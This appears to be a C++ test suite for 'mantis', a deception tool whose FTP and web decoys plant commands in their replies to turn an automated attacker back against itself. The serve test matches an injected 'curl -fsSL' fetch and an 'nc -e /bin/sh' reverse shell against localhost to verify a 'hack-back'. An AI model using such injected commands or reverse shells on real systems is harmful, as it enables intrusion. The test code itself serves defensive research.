#include <httplib.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <catch_amalgamated.hpp>
#include <filesystem>
#include <fstream>
#include <json.hpp>
#include <regex>
#include <sstream>

#include "mantis/event_log.hpp"
#include "mantis/net.hpp"
#include "mantis/sim.hpp"

using namespace mantis;
using namespace std::chrono_literals;
namespace fs = std::filesystem;

namespace {

struct TempDir {
    fs::path path;
    TempDir() {
        path = fs::temp_directory_path() / ("mantis_cli_" + std::to_string(::getpid()) + "_" + std::to_string(counter++));
        fs::create_directories(path);
    }
    ~TempDir() { fs::remove_all(path); }
    static inline int counter = 0;
};

std::string slurp(const fs::path& p) {
    std::ifstream in(p);
    std::stringstream ss;
    ss << in.rdbuf();
    return ss.str();
}

struct Run {
    int code = -1;
    std::string out;
    std::string err;
};

Run run_cli(const std::vector<std::string>& args) {
    TempDir io;
    std::string cmd = MANTIS_CLI;
    for (const auto& a : args) cmd += " '" + a + "'";
    cmd += " > " + (io.path / "out").string() + " 2> " + (io.path / "err").string();
    int status = std::system(cmd.c_str());
    return {WIFEXITED(status) ? WEXITSTATUS(status) : -1, slurp(io.path / "out"), slurp(io.path / "err")};
}

std::uint16_t free_port() {
    Listener l("127.0.0.1", 0);
    return l.port();
}

std::vector<LogRecord> read_log(const fs::path& p) {
    std::vector<LogRecord> out;
    std::ifstream in(p);
    for (std::string line; std::getline(in, line);)
        if (auto r = parse_record(line)) out.push_back(*r);
    return out;
}

bool wait_for_record(const fs::path& log, const std::string& kind, std::chrono::milliseconds timeout) {
    auto deadline = std::chrono::steady_clock::now() + timeout;
    while (std::chrono::steady_clock::now() < deadline) {
        for (const auto& r : read_log(log))
            if (r.kind == kind) return true;
        std::this_thread::sleep_for(20ms);
    }
    return false;
}

class Daemon {
public:
    explicit Daemon(const fs::path& config) {
        pid_ = ::fork();
        if (pid_ == 0) {
            ::execl(MANTIS_CLI, MANTIS_CLI, "serve", "--config", config.c_str(), nullptr);
            ::_exit(127);
        }
    }
    ~Daemon() {
        if (pid_ > 0 && !reaped_) {
            ::kill(pid_, SIGKILL);
            ::waitpid(pid_, nullptr, 0);
        }
    }
    void signal(int sig) { ::kill(pid_, sig); }
    // Exit code, or nullopt if the process is still running after `timeout`.
    std::optional<int> wait(std::chrono::milliseconds timeout) {
        auto deadline = std::chrono::steady_clock::now() + timeout;
        while (std::chrono::steady_clock::now() < deadline) {
            int status = 0;
            if (::waitpid(pid_, &status, WNOHANG) == pid_) {
                reaped_ = true;
                return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
            }
            std::this_thread::sleep_for(5ms);
        }
        return std::nullopt;
    }

private:
    pid_t pid_ = -1;
    bool reaped_ = false;
};

bool port_open(std::uint16_t port) {
    try {
        connect_tcp({"127.0.0.1", port}, 500ms);
        return true;
    } catch (const std::exception&) {
        return false;
    }
}

}  // namespace

TEST_CASE("simulate exit codes", "[cli]") {
    CHECK(run_cli({"simulate", "--games", "0"}).code == 2);
    CHECK(run_cli({"simulate", "--policy", "reckless"}).code == 2);
    CHECK(run_cli({"simulate", "--defense", "ssh:tarpit"}).code == 2);
    CHECK(run_cli({"simulate", "--branching", "10,x"}).code == 2);
    CHECK(run_cli({"simulate", "--policy", "llm"}).code == 2);
    CHECK(run_cli({"simulate", "--no-such-flag"}).code == 2);
    CHECK(run_cli({}).code == 2);
    CHECK(run_cli({"--help"}).code == 0);
}

TEST_CASE("simulate writes a table and a JSONL report", "[cli]") {
    TempDir dir;
    auto report = dir.path / "report.jsonl";
    auto r = run_cli({"simulate", "--policy", "compliant", "--defense", "ftp:counterstrike", "--games", "10", "--seed",
                      "1", "--report", report.string()});
    REQUIRE(r.code == 0);
    CHECK(r.out.find("10/10") != std::string::npos);
    std::vector<nlohmann::json> lines;
    std::ifstream in(report);
    for (std::string line; std::getline(in, line);) lines.push_back(nlohmann::json::parse(line));
    REQUIRE(lines.size() == 11);
    for (int i = 0; i < 10; ++i) {
        CHECK(lines[i]["type"] == "game");
        CHECK(lines[i]["seed"] == 1 + i);
        CHECK(lines[i]["outcome"] == "defender_win");
    }
    CHECK(lines[10]["type"] == "summary");
    CHECK(lines[10]["obj_d"] == 10);

    // Same flags, same bytes.
    auto again = run_cli({"simulate", "--policy", "compliant", "--defense", "ftp:counterstrike", "--games", "10",
                          "--seed", "1"});
    CHECK(again.out == r.out);
}

TEST_CASE("cost sweep prints one monotone row per branching", "[cli]") {
    auto r = run_cli({"simulate", "--policy", "compliant", "--defense", "ftp:tarpit", "--games", "2", "--branching",
                      "10,100,1000", "--cost-sweep"});
    REQUIRE(r.code == 0);
    CHECK(r.out.find("cost strictly increasing in branching: yes") != std::string::npos);
    std::regex row(R"(\n\s+(10|100|1000)\s+[0-9.]+\s+[0-9.]+\s+[0-9.]+\n)");
    auto begin = std::sregex_iterator(r.out.begin(), r.out.end(), row);
    CHECK(std::distance(begin, std::sregex_iterator()) >= 2);  // adjacent rows share a newline
    for (auto b : {"10", "100", "1000"}) CHECK(std::regex_search(r.out, std::regex("\n\\s+" + std::string(b) + " ")));
}

TEST_CASE("events filters, warns on malformed lines, fails on unreadable logs", "[cli]") {
    TempDir dir;
    auto log_path = dir.path / "events.jsonl";
    {
        EventLog log(log_path);
        log.append("eng-1", "activation", {{"kind", "ftp_anonymous_login"}});
        log.append("eng-2", "activation", {{"kind", "web_sqli_login_bypass"}});
        log.append("eng-1", "hackback_verified", {{"peer", "10.0.0.9"}});
    }
    { std::ofstream(log_path, std::ios::app) << "{not json\n"; }

    auto all = run_cli({"events", "--log", log_path.string()});
    CHECK(all.code == 0);
    CHECK(std::count(all.out.begin(), all.out.end(), '\n') == 3);
    CHECK(all.err.find(":4: skipping malformed record") != std::string::npos);

    auto hb = run_cli({"events", "--log", log_path.string(), "--kind", "hackback_verified", "--json"});
    CHECK(hb.code == 0);
    REQUIRE(std::count(hb.out.begin(), hb.out.end(), '\n') == 1);
    CHECK(parse_record(hb.out.substr(0, hb.out.size() - 1))->detail["peer"] == "10.0.0.9");

    auto eng = run_cli({"events", "--log", log_path.string(), "--engagement", "eng-2"});
    CHECK(std::count(eng.out.begin(), eng.out.end(), '\n') == 1);

    std::ofstream(dir.path / "empty.jsonl").close();
    auto empty = run_cli({"events", "--log", (dir.path / "empty.jsonl").string()});
    CHECK(empty.code == 0);
    CHECK(empty.out.empty());

    CHECK(run_cli({"events", "--log", (dir.path / "missing.jsonl").string()}).code != 0);
}

TEST_CASE("serve refuses a bad config with a line number", "[cli]") {
    TempDir dir;
    std::ofstream(dir.path / "bad.yaml") << "log_path: events.jsonl\n"
                                            "decoys:\n"
                                            "  - {kind: ftp, port: 2121}\n"
                                            "  - {kind: web, port: 2121}\n"
                                            "objective: {kind: counterstrike}\n";
    auto r = run_cli({"serve", "--config", (dir.path / "bad.yaml").string()});
    CHECK(r.code == 2);
    CHECK(r.err.find("bad.yaml:4: port 2121") != std::string::npos);
    CHECK_FALSE(fs::exists(dir.path / "events.jsonl"));
    CHECK(run_cli({"serve", "--config", (dir.path / "none.yaml").string()}).code == 2);
}

TEST_CASE("serve: counterstrike against a live attacker, then SIGTERM", "[cli][serve]") {
    TempDir dir;
    auto logs = dir.path / "logs";
    fs::create_directories(logs);
    const auto ftp_port = free_port();
    const auto web_port = free_port();
    auto cfg = dir.path / "mantis.yaml";
    std::ofstream(cfg) << "bind_host: 127.0.0.1\n"
                          "log_path: logs/events.jsonl\n"
                          "port_range: {lo: 61000, hi: 61999}\n"
                          "seed: 5\n"
                          "decoys:\n"
                          "  - {kind: ftp, port: "
                       << ftp_port << "}\n  - {kind: web, port: " << web_port
                       << "}\n"
                          "objective:\n"
                          "  kind: counterstrike\n"
                          "  target_addr: 127.0.0.1\n"
                          "initiator_grace_ms: 200\n";
    Daemon daemon(cfg);
    REQUIRE(wait_for_record(logs / "events.jsonl", "daemon_started", 5000ms));
    CHECK(port_open(web_port));

    // The attacker: anonymous login, then blind execution of what it was told.
    Socket ftp = connect_tcp({"127.0.0.1", ftp_port});
    LineReader lines(ftp);
    CHECK(lines.next(2000ms) == "220 (vsFTPd 3.0.3)");
    ftp.write_all("USER anonymous\r\n");
    CHECK(lines.next(2000ms) == "331 Please specify the password.");
    ftp.write_all("PASS guest@\r\n");
    auto login = lines.next(2000ms);
    REQUIRE(login);
    auto inj = sim::extract_injections(*login);
    REQUIRE(inj.size() == 1);
    std::smatch m;
    REQUIRE(std::regex_search(inj[0].command, m, std::regex(R"(curl -fsSL ([0-9.]+):(\d+))")));

    httplib::Client http(m.str(1), std::stoi(m.str(2)));
    auto body = http.Get("/");
    REQUIRE(body);
    std::smatch nc;
    REQUIRE(std::regex_match(body->body, nc, std::regex(R"(nc -e /bin/sh ([0-9.]+) (\d+)\n)")));
    Socket shell = connect_tcp({nc.str(1), std::uint16_t(std::stoi(nc.str(2)))});
    LineReader shell_lines(shell);
    auto probe = shell_lines.next(3000ms);
    REQUIRE(probe);
    REQUIRE(probe->starts_with("echo "));
    shell.write_all(probe->substr(5) + "\n");
    REQUIRE(wait_for_record(logs / "events.jsonl", "hackback_verified", 5000ms));

    daemon.signal(SIGTERM);
    const auto t0 = std::chrono::steady_clock::now();
    auto code = daemon.wait(2000ms);
    REQUIRE(code);
    CHECK(*code == 0);
    CHECK(std::chrono::steady_clock::now() - t0 < 2s);
    CHECK_FALSE(port_open(ftp_port));
    CHECK_FALSE(port_open(web_port));

    auto records = read_log(logs / "events.jsonl");
    REQUIRE_FALSE(records.empty());
    CHECK(records.back().kind == "daemon_stopped");
    // Nothing but the log was written.
    std::vector<std::string> files;
    for (const auto& e : fs::recursive_directory_iterator(dir.path)) files.push_back(e.path().filename().string());
    std::sort(files.begin(), files.end());
    CHECK(files == std::vector<std::string>{"events.jsonl", "logs", "mantis.yaml"});

    auto hb = run_cli({"events", "--log", (logs / "events.jsonl").string(), "--kind", "hackback_verified", "--json"});
    CHECK(hb.code == 0);
    CHECK(std::count(hb.out.begin(), hb.out.end(), '\n') == 1);
}
